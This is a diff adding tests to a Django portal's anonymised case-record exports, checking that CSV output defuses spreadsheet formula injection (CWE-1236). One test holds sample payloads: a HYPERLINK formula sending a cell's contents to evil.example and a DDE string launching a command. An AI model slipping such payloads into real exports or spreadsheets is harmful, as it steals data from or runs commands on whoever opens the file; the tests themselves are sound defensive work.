@@ -1,7 +1,9 @@
 """Anonymised case records (issue 6 item 3): no personal data, privacy rules per kind, filters, streaming in
 bounded queries."""
 
+import csv
 import datetime as dt
+import io
 import json
 
 from django.db import connection
@@ -10,7 +12,7 @@ from django.test.utils import CaptureQueriesContext
 from portal.transparency import exports
 from portal.transparency.exports import ExportFilters, case_records
 
-from .data import CONSENTED, NEEDLES, build
+from .data import CONSENTED, NEEDLES, _submit, answer, build
 
 
 def _by_code(records, world):
@@ -126,3 +128,28 @@ def test_the_streams_come_in_pieces_that_join_into_the_same_document(opendata, m
     assert len(csv_pieces) > 3 and "".join(csv_pieces) == whole_csv
     assert len(json_pieces) > 3 and "".join(json_pieces) == whole_json
     assert [r["record_id"] for r in json.loads(whole_json)] == [r["record_id"] for r in case_records()]
+
+
+def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_defused_in_the_csv_only(db, ward, category):
+    """CWE-1236: a published title such as =HYPERLINK(…) would run in the spreadsheet of whoever opens the data."""
+    texts = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"Xem chi tiết")',
+             "description": "@SUM(1+1)*cmd|' /C calc'!A0 — mô tả đủ dài",
+             "answer": "-1+1 Đã xử lý.\n+ tiếp theo"}
+    case = _submit(ward=ward, category=category, title=texts["title"], description=texts["description"],
+                   publish_consent=True)
+    answer(case, texts["answer"])
+    [row] = list(csv.DictReader(io.StringIO("".join(exports.stream_csv(case_records())).lstrip("\ufeff"))))
+    for column, text in texts.items():
+        assert row[column] == "'" + text, column
+    assert row["ward"] == ward.code and row["kind"] == "feedback"  # other cells as they are
+    [record] = json.loads("".join(exports.stream_json(case_records())))
+    assert [record[column] for column in texts] == list(texts.values())  # JSON gives the texts as they are
+
+
+def test_ordinary_texts_are_left_as_they_are_in_the_csv(db, ward, category):
+    case = _submit(ward=ward, category=category, title="Đèn đường hẻm 12 bị hỏng", publish_consent=True,
+                   description="Hẻm 12 — tối, 3-4 bóng đèn hỏng; số điện thoại đường dây nóng: 1022.")
+    answer(case, "Đã thay 4 bóng đèn = xong.")
+    [row] = list(csv.DictReader(io.StringIO("".join(exports.stream_csv(case_records())).lstrip("\ufeff"))))
+    assert row["title"] == "Đèn đường hẻm 12 bị hỏng"
+    assert row["description"].startswith("Hẻm 12") and row["answer"] == "Đã thay 4 bóng đèn = xong."
